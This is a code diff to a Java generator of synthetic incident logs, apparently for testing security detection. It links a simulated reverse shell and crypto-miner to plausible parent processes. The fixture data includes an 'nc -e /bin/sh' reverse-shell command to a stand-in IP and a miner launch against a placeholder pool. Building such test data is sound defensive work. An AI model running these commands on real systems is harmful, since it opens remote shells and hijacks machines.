@@ -231,11 +231,15 @@ public final class IncidentFleet {
             }
             incidents.add(new Incident(Kind.STORM, bastions[b], hour, null, true));
         }
+        // the reverse shell is started by the build server's Java service (its latest run before)
+        int java = RawEventWriter.lastPid(records, "build-01", "/usr/bin/java", REVERSE_SHELL_AT).orElseThrow();
         records.add(exec("build-01", REVERSE_SHELL_AT, serial, r, "110", "/usr/bin/nc",
-                List.of("nc", "-e", "/bin/sh", "203.0.113.7", "4444")));
+                List.of("nc", "-e", "/bin/sh", "203.0.113.7", "4444"), java));
         incidents.add(new Incident(Kind.REVERSE_SHELL, "build-01", hourOf(REVERSE_SHELL_AT), "/usr/bin/nc", true));
+        // the miner is started by the web server's PHP (its latest run before)
+        int php = RawEventWriter.lastPid(records, "web-02", "/usr/bin/php8.2", MINER_AT).orElseThrow();
         records.add(exec("web-02", MINER_AT, serial, r, "33", "/tmp/.cache/xxprimef",
-                List.of("/tmp/.cache/xxprimef", "-o", "pool.example.net:3333")));
+                List.of("/tmp/.cache/xxprimef", "-o", "pool.example.net:3333"), php));
         incidents.add(new Incident(Kind.MINER, "web-02", hourOf(MINER_AT), "/tmp/.cache/xxprimef", true));
         records.add(exec("web-03", ADMIN_TOOL_AT, serial, r, "1000", "/usr/bin/strace", List.of("strace", "-p", "4242")));
         incidents.add(new Incident(Kind.ADMIN_TOOL, "web-03", hourOf(ADMIN_TOOL_AT), "/usr/bin/strace", false));
@@ -261,8 +265,16 @@ public final class IncidentFleet {
 
     private static List<String> exec(String host, long time, long[] serial, Random r, String uid, String exe,
                                      List<String> args) {
+        return exec(host, time, serial, r, uid, exe, args, -1);
+    }
+
+    /** An execution whose parent is {@code ppid} (a random one when negative; the same draws either way). */
+    private static List<String> exec(String host, long time, long[] serial, Random r, String uid, String exe,
+                                     List<String> args, int ppid) {
         int pid = 2000 + r.nextInt(60_000);
-        return RawEventWriter.execution(host, time, ++serial[0], pid, pid - 1 - r.nextInt(30), uid, exe, "/", "exec", args);
+        int randomParent = pid - 1 - r.nextInt(30);
+        return RawEventWriter.execution(host, time, ++serial[0], pid, ppid < 0 ? randomParent : ppid, uid, exe, "/",
+                "exec", args);
     }
 
     private static long timeOf(List<String> event) {
